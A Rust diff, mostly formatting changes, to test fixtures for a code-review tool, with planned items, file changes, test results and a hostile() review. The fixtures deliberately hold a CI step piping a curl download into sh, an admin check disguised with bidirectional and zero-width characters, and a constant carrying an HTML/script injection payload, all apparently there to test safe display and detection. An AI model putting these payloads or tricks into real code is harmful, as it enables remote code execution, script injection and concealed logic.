@@ -203,8 +203,7 @@ fn plan(builder: &mut Builder) {
         &["src/config.rs", "src/client.rs", "config/default.toml"],
     );
     item.depends_on = vec![item_id("P1")];
-    item.acceptance =
-        vec![Check { kind: CheckKind::Cmd, text: "cargo test config".to_owned() }];
+    item.acceptance = vec![Check { kind: CheckKind::Cmd, text: "cargo test config".to_owned() }];
     let item = builder.item(
         "P3",
         "Document retries and refresh the logo",
@@ -235,12 +234,7 @@ fn files(builder: &mut Builder) {
         Some("on: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -s https://example.invalid/setup | sh\n      - run: cargo test\n"),
         &["a stranger"],
     );
-    builder.file(
-        "Cargo.lock",
-        Some(&lock("1.0.0")),
-        Some(&lock("1.2.3")),
-        &["P2"],
-    );
+    builder.file("Cargo.lock", Some(&lock("1.0.0")), Some(&lock("1.2.3")), &["P2"]);
     builder.file(
         "config/default.toml",
         Some("[client]\r\nserver = \"https://example.invalid\"\r\ntimeout = 30\r\n"),
@@ -279,7 +273,10 @@ fn files(builder: &mut Builder) {
         b"scripts/release.sh",
         None,
         Some(Given::file("#!/bin/sh\nset -e\ncargo build --release\n")),
-        Some(Given { mode: "100755", bytes: b"#!/bin/sh\nset -eu\ncargo build --release\n".to_vec() }),
+        Some(Given {
+            mode: "100755",
+            bytes: b"#!/bin/sh\nset -eu\ncargo build --release\n".to_vec(),
+        }),
         &["P3"],
     );
     builder.file("src/client.rs", Some(CLIENT_OLD), Some(CLIENT_NEW), CLIENT_WHO);
@@ -297,7 +294,8 @@ fn files(builder: &mut Builder) {
         Some("pub fn is_admin(role: &str) -> bool {\n    // checked above\u{202e} \u{2066}// allow only admins\u{2069} \u{2066}\n    role == \"admin\u{200b}\" || role == \"root\"   \n}\n"),
         &["P1", "P1", "somebody", "P1"],
     );
-    let long: String = (0..400).map(|n| format!("{{\"id\":{n},\"name\":\"fixture {n}\"}},")).collect();
+    let long: String =
+        (0..400).map(|n| format!("{{\"id\":{n},\"name\":\"fixture {n}\"}},")).collect();
     builder.file(
         "tests/retry.rs",
         None,
@@ -325,7 +323,10 @@ fn files(builder: &mut Builder) {
 fn lock(version: &str) -> String {
     let mut out = String::from("version = 4\n");
     for name in ["anyhow", "bytes", "log", "rand", "serde"] {
-        let _ = write!(out, "\n[[package]]\nname = \"{name}\"\nversion = \"{version}\"\nsource = \"registry\"\n");
+        let _ = write!(
+            out,
+            "\n[[package]]\nname = \"{name}\"\nversion = \"{version}\"\nsource = \"registry\"\n"
+        );
     }
     out
 }
@@ -348,7 +349,10 @@ fn backoff() -> String {
 fn legacy() -> String {
     let mut out = String::from("//! The old uploader.\n\n");
     for n in 0..14 {
-        let _ = write!(out, "pub fn upload_v{n}(chunk: &[u8]) -> usize {{\n    chunk.len() + {n}\n}}\n\n");
+        let _ = write!(
+            out,
+            "pub fn upload_v{n}(chunk: &[u8]) -> usize {{\n    chunk.len() + {n}\n}}\n\n"
+        );
     }
     out
 }
@@ -403,7 +407,9 @@ fn states(review: &mut Review) {
     p2.tests = Tests::Failed {
         failed: 1,
         total: 3,
-        output: b"test config::limits ... \x1b[31mFAILED\x1b[0m\n\nassertion failed: limits(20)\n".to_vec().into(),
+        output: b"test config::limits ... \x1b[31mFAILED\x1b[0m\n\nassertion failed: limits(20)\n"
+            .to_vec()
+            .into(),
     };
     p2.ai_review = AiReview::NoneOpen;
     p3.approval = Approval::Unreviewed;
@@ -420,7 +426,12 @@ fn states(review: &mut Review) {
         .map(|one| (one.id, one.key.clone()))
         .collect();
     for (segment, key) in unplanned {
-        review.choices.push(Choice { segment, key, item: None, by: "R. Viewer, 2026-11-29 17:10".to_owned() });
+        review.choices.push(Choice {
+            segment,
+            key,
+            item: None,
+            by: "R. Viewer, 2026-11-29 17:10".to_owned(),
+        });
         review.acknowledgements.push(Acknowledgement { segment, tag: "submodule".to_owned() });
     }
     review.blockers = [
@@ -437,10 +448,14 @@ fn states(review: &mut Review) {
     review.task = Some(Task {
         state: "needs human".to_owned(),
         headline: Some("Review rounds stopped after 3. 1 problem is still open.".to_owned()),
-        actions: [("review-anyway", "Review anyway"), ("add-guidance", "Add guidance"), ("cancel", "Cancel task")]
-            .into_iter()
-            .map(|(word, label)| (word.to_owned(), label.to_owned()))
-            .collect(),
+        actions: [
+            ("review-anyway", "Review anyway"),
+            ("add-guidance", "Add guidance"),
+            ("cancel", "Cancel task"),
+        ]
+        .into_iter()
+        .map(|(word, label)| (word.to_owned(), label.to_owned()))
+        .collect(),
         cause: Some("rounds".to_owned()),
     });
     review.merge_steps = [
@@ -460,12 +475,19 @@ fn states(review: &mut Review) {
         detail: detail.map(str::to_owned),
     })
     .collect();
-    review.notices =
-        vec!["GitHub's required checks were read 3 hours ago; they are read again before the merge.".to_owned()];
+    review.notices = vec![
+        "GitHub's required checks were read 3 hours ago; they are read again before the merge."
+            .to_owned(),
+    ];
 }
 
 fn conversation(review: &mut Review) {
-    let first = review.link.segments.iter().find(|one| one.row == Row::Item(item_id("P1"))).map(|one| one.id);
+    let first = review
+        .link
+        .segments
+        .iter()
+        .find(|one| one.row == Row::Item(item_id("P1")))
+        .map(|one| one.id);
     let note = |id: u8, kind, item: &str, text: &str| Note {
         id: format!("00000000-0000-4000-8000-0000000000{id:02}"),
         kind,
@@ -495,7 +517,8 @@ fn conversation(review: &mut Review) {
         id: "00000000-0000-4000-8000-000000000011".to_owned(),
         item: item_id("P1"),
         state: "open".to_owned(),
-        text: "`attempts` is never reset after a success, so the second upload has fewer retries.".to_owned(),
+        text: "`attempts` is never reset after a success, so the second upload has fewer retries."
+            .to_owned(),
         source: "review round 3".to_owned(),
     }];
     review.findings = vec![Finding {
@@ -508,14 +531,15 @@ fn conversation(review: &mut Review) {
 }
 
 /// Text that must stay text wherever it is shown.
-pub const HOSTILE: &str = "</script><!--<script><img src=x onerror=\"document.title='owned'\">\u{2028}\u{202e}\u{1b}[31m'\"`${1}]]>&amp;\u{200b}__proto__";
+pub(crate) const HOSTILE: &str = "</script><!--<script><img src=x onerror=\"document.title='owned'\">\u{2028}\u{202e}\u{1b}[31m'\"`${1}]]>&amp;\u{200b}__proto__";
 
 /// A review with hostile text in every field that takes text.
 #[must_use]
 pub fn hostile() -> Review {
     let mut review = rich();
     let add = |text: &mut String| text.push_str(HOSTILE);
-    let bytes = |text: &mut RepoBytes| *text = [text.as_bytes(), HOSTILE.as_bytes()].concat().into();
+    let bytes =
+        |text: &mut RepoBytes| *text = [text.as_bytes(), HOSTILE.as_bytes()].concat().into();
     add(&mut review.repository);
     add(&mut review.issue.title);
     review.issue.body.iter_mut().for_each(add);
